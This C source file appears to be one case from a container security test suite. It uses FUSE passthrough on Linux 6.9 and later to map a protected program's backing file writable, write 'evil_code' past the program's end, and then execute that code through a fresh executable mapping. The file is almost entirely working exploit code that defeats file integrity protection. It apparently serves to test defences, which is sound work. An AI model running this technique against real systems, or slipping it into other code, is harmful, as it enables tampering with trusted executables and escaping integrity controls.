/*
 * A FUSE file system of the container's own hands a file through to another (passthrough, from Linux 6.9 on): a shared
 * mapping of its file is one of the other's pages. What is written there behind the other's end is none of its digest.
 * Must be seen: that the other is not stable.
 */
#include <linux/fuse.h>
#include "attack.h"

/* From here on as in newer headers. */
#define INIT_EXT (1U << 30)
#define PASSTHROUGH (1U << 5)
#define OPEN_PASSTHROUGH (1U << 7)
struct init_out {
	uint32_t major, minor, readahead, flags;
	uint16_t background, congestion;
	uint32_t max_write, granularity;
	uint16_t pages, alignment;
	uint32_t flags2, stack_depth, unused[6];
};
struct open_out {
	uint64_t handle;
	uint32_t flags;
	int32_t backing;
};
struct backing_map {
	int32_t fd;
	uint32_t flags;
	uint64_t padding;
};
#define BACKING_OPEN _IOW(229, 1, struct backing_map)

static int dev;

static void reply(uint64_t unique, int error, const void *data, size_t size)
{
	char out[512];
	struct fuse_out_header head = {.len = sizeof(head) + size, .error = error, .unique = unique};

	memcpy(out, &head, sizeof(head));
	if (size)
		memcpy(out + sizeof(head), data, size);
	if (write(dev, out, head.len) < 0)
		perror("reply");
}

static struct fuse_attr attributes(uint64_t node)
{
	return (struct fuse_attr){
		.ino = node,
		.nlink = 1,
		.blksize = PAGE,
		.mode = node == 1 ? S_IFDIR | 0755 : S_IFREG | 0666,
		.size = node == 1 ? 0 : size_of(PROGRAM),
	};
}

static void answer(struct fuse_in_header *in, int backing)
{
	struct init_out begun = {.major = 7, .readahead = 4096, .flags = INIT_EXT, .background = 8, .congestion = 8,
		.max_write = 65536, .granularity = 1, .pages = 16, .flags2 = PASSTHROUGH, .stack_depth = 2};
	struct fuse_entry_out entry = {.nodeid = 2, .attr_valid = 60, .entry_valid = 60, .attr = attributes(2)};
	struct fuse_attr_out found = {.attr_valid = 60, .attr = attributes(in->nodeid)};
	struct open_out open = {.flags = OPEN_PASSTHROUGH};
	struct backing_map map = {.fd = backing};

	switch (in->opcode) {
	case FUSE_INIT:
		begun.minor = ((struct fuse_init_in *)(in + 1))->minor;
		return reply(in->unique, 0, &begun, sizeof(begun));
	case FUSE_LOOKUP:
		return reply(in->unique, 0, &entry, sizeof(entry));
	case FUSE_GETATTR:
		return reply(in->unique, 0, &found, sizeof(found));
	case FUSE_OPEN:
		open.backing = ioctl(dev, BACKING_OPEN, &map);
		if (open.backing < 0)
			return reply(in->unique, errno == EPERM ? -EPERM : -EOPNOTSUPP, 0, 0);
		return reply(in->unique, 0, &open, sizeof(open));
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
		return;
	case FUSE_FLUSH:
	case FUSE_RELEASE:
	case FUSE_FSYNC:
		return reply(in->unique, 0, 0, 0);
	}
	reply(in->unique, -ENOSYS, 0, 0);
}

static void serve(int backing)
{
	static char in[1 << 17];

	while (read(dev, in, sizeof(in)) > 0)
		answer((void *)in, backing);
	_exit(0);
}

ATTACK(handed_through)
{
	size_t size = size_of(PROGRAM), end = (size + 63) & -64;
	char options[128], *bytes, *code;
	int fd;

	dev = open("/dev/fuse", O_RDWR);
	if (dev < 0)
		absent("/dev/fuse");
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0", dev);
	must(mkdir("/data/fuse", 0755), "mkdir");
	must(mount("fuse", "/data/fuse", "fuse", 0, options), "mount");
	if (!fork())
		serve(opened(PROGRAM, O_RDONLY));
	close(dev);
	fd = opened("/data/fuse/f", O_RDWR);
	bytes = mapped(mmap(0, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0), "mmap");
	close(fd);
	memcpy(bytes + end, evil_code, sizeof(evil_code));
	munmap(bytes, PAGE);
	umount2("/data/fuse", MNT_DETACH);
	sleep(2);
	fd = opened(PROGRAM, O_RDONLY);
	code = mapped(mmap(0, size, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0), "mmap " PROGRAM);
	call(code + end);
	return 0;
}
